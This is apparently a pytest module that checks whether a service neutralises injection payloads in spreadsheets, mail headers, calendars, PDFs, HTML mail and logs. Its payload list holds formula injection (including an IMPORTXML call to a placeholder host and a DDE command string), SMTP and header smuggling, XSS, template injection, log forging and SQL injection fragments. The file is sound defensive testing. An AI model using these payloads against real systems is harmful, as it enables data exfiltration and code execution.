"""Faults 31 to 33: five thousand hostile texts through every way that text takes out of the service.

Each payload is a core that does harm somewhere, wrapped in what slips past careless filters.
"""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from email.message import EmailMessage
from email.utils import getaddresses
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from zipfile import ZipFile

import icalendar
import pytest

from connectors.local import ics
from connectors.local.suite import open_suite
from connectors.mime import compose
from connectors.ports import Entry
from service.delivery.mail_page import lay_out
from service.delivery.papers import pdf
from tests.builders import NOW
from tests.connectors.contracts import MAIL, PAIRS, PEOPLE, person
from tests.connectors.google.conftest import house
from tests.connectors.google.test_tables import people, ready
from tests.emulators.google.gmail_model import parse
from tests.emulators.google.school import School
from tests.emulators.google.sheets_model import Formula
from tests.emulators.google.world import ROBOT
from tests.faults.village import MINUTE, Villages, application, concern
from tests.service.delivery.test_mail_page import ADDRESSES, PROGRAMME
from tests.service.engine_school import mail
from workflows.effects import Recipient
from workflows.text.blocks import FormLink, Heading, Items, Paragraph, Table
from workflows.text.papers import Document

__all__ = ["house"]

pytestmark = pytest.mark.slow
CANARY = "canary7f3a"
CORES = (
    *(f'=IMPORTXML("https://x.example/{CANARY}","//a")', f"=HYPERLINK({CANARY})", f"+{CANARY}", f"-2+3+{CANARY}"),
    *(f"@SUM(1)*{CANARY}", f"=cmd|' /C calc'!{CANARY}", f"＝1+{CANARY}", f"＋1{CANARY}", f'";=1+{CANARY}'),
    *(f"Bcc: {CANARY}@x.example", f"To: {CANARY}@x.example", f"Subject: {CANARY}", f"Content-Type: text/{CANARY}"),
    *(f".\r\nMAIL FROM:<{CANARY}@x.example>", f"<{CANARY}@x.example>, other@x.example", f"=?utf-8?q?{CANARY}?="),
    *(f"<script>{CANARY}</script>", f"<img src=x onerror={CANARY}>", f"</p></td><form action={CANARY}>"),
    *(f"[{CANARY}](javascript:alert(1))", f"{{{{ {CANARY} }}}}", f"{{% include {CANARY} %}}", f"${{{CANARY}}}"),
    *(f"<!--{CANARY}", f"&lt;b&gt;{CANARY}", f"<svg/onload={CANARY}>", f"javascript:{CANARY}", f'" onload="{CANARY}'),
    *(f"END:VEVENT\r\nATTENDEE:{CANARY}", f"level=error user={CANARY}", f'{{"level":"error","u":"{CANARY}"}}'),
    *(f"%s%n{CANARY}", f"\x1b[31m{CANARY}", f"#set({CANARY})", f"*/{CANARY}/*", f"' OR 1=1 --{CANARY}"),
)
BEFORE = ("", "\r\n", "\n", "\r", "\t", "Ada\r\n", "Ada\u2028", "Ada\x0b", "\ufeff", "Ada\x85", '"', "'")
AFTER = ("", "\r\n\r\n", "\x00")
PAYLOADS = tuple(before + core + after for before, core, after in product(BEFORE, CORES, AFTER))


def test_payloads_times_their_ways_are_five_thousand() -> None:
    # Three sheets, two headers, two calendars, a mail's page, a paper, the log; a form and a concern's page.
    assert len(PAYLOADS) * 12 > 5_000


def test_fault_31_no_cell_computes(house: School) -> None:
    ready(house, *(person(f"p{n}", text) for n, text in enumerate(PAYLOADS)))
    cells = people(house).cells.values()
    assert [value for value in cells if isinstance(value, Formula)] == []
    assert sum(CANARY in str(value) for value in cells) == len(PAYLOADS)


def test_fault_31_no_cell_of_the_file_computes(tmp_path: Path) -> None:
    table = open_suite({"folder": str(tmp_path), "base_url": "https://peer.example"}).table
    table.ensure((PEOPLE, PAIRS))
    table.write([person(f"p{n}", text) for n, text in enumerate(PAYLOADS)])
    with ZipFile(next(tmp_path.rglob("*.xlsx"))) as book:
        sheets = b"".join(book.read(name) for name in book.namelist() if "sheet" in name and name.endswith(".xml"))
    assert (sheets.count(b"<f>") + sheets.count(b"<f "), sheets.count(b"<f/")) == (0, 0)


def readers(message: EmailMessage) -> list[str]:
    """Everybody whom the headers name as a reader."""
    found = (str(message[name]) for name in ("To", "Cc", "Bcc") if message[name])
    return [address for _, address in getaddresses(list(found))]


FIELDS: tuple[Callable[[str], dict[str, object]], ...] = (
    lambda text: {"subject": text},
    lambda text: {"to_name": text},
)


@pytest.mark.parametrize("field", FIELDS)
def test_fault_32_no_header_and_no_reader_is_added(field: Callable[[str], dict[str, object]]) -> None:
    plain = set(compose(MAIL, ROBOT, "Mentoring").keys())
    for text in PAYLOADS:
        raw = compose(replace(MAIL, **field(text)), ROBOT, "Mentoring").as_bytes()  # type: ignore[arg-type]  # any field
        message = parse(raw)
        assert (text, set(message.keys()) - plain) == (text, set())
        assert (text, readers(message)) == (text, [MAIL.to])


MEETING = Entry(
    key="sim/meeting/a~b/1",
    version=1,
    title="Ada",
    starts_at=NOW,
    ends_at=NOW + timedelta(minutes=40),
    zone="Europe/London",
    organiser="host@oak.example",
    attendees=("ada@oak.example",),
    location="Ada",
    description="Ada",
)


def event_lines(text: str, *, cancelled: bool) -> list[str]:
    """The names of the lines of a meeting that has this text everywhere, as another library reads them."""
    event = ics.event_text(replace(MEETING, title=text, location=text, description=text), NOW, {})
    whole = ics.calendar_text(ics.cancelled_text(event, 2) if cancelled else event, MEETING.zone, "REQUEST")
    [read] = icalendar.Calendar.from_ical(whole).walk("VEVENT")
    return [name for name, _ in read.property_items()]


@pytest.mark.parametrize("cancelled", [False, True])
def test_fault_32_no_line_is_added_to_a_calendar(cancelled: bool) -> None:
    plain = event_lines("Ada", cancelled=cancelled)
    assert [text for text in PAYLOADS if event_lines(text, cancelled=cancelled) != plain] == []


ACTIVE = (b"/Annot", b"/JavaScript", b"/JS", b"/URI", b"/Launch", b"/EmbeddedFile")


def test_fault_33_nothing_in_a_paper_acts() -> None:
    pytest.importorskip("typst")
    lines = tuple(PAYLOADS)
    blocks = (Heading(text=PAYLOADS[0]), Items(lines=lines), Table(caption="", header=("x",), rows=((lines[9],),)))
    made = pdf(Document(title=PAYLOADS[1], blocks=blocks, language="en"))
    streams = re.findall(rb"stream\r?\n(.*?)\r?\nendstream", made, re.DOTALL)
    inside = made + b"".join(zlib.decompressobj().decompress(stream) for stream in streams if stream[:1] == b"\x78")
    assert b"/Font" in inside
    assert [word for word in ACTIVE if word in inside] == []


class Nodes(HTMLParser):
    """Counts elements and their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


def nodes(text: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a mail's page that has this text everywhere."""
    blocks = (
        *(Heading(text=text), Paragraph(text=text), Items(lines=(text,))),
        *(Table(caption=text, header=(text,), rows=((text,),)), FormLink(label=text, form="consent")),
    )
    reader = Recipient(person_id="p1", address="amira@oak.example", name=text)
    counted = Nodes()
    counted.feed(lay_out(mail(blocks=blocks, to=reader, subject=text, why=text), PROGRAMME, ADDRESSES).html)
    return [node for node in counted.seen if node[0] != "br"]


def test_fault_33_no_node_is_created_in_a_mail() -> None:
    plain = nodes("Ada")
    assert [text for text in PAYLOADS if nodes(text) != plain] == []


def test_fault_33_no_line_of_the_log_has_the_text(villages: Villages, capfd: pytest.CaptureFixture[str]) -> None:
    village = villages.new()
    village.world.fail("send", ValueError(PAYLOADS[0]), ValueError(PAYLOADS[1]))
    for number, text in enumerate(PAYLOADS):
        applied = application(number, name=text, why=text, guardian_name=text)
        village.world.responses.append(applied if number % 2 else concern(number, text))
    village.live(MINUTE)
    assert len(village.world.letters) >= len(PAYLOADS) // 2
    assert CANARY not in "".join(capfd.readouterr())
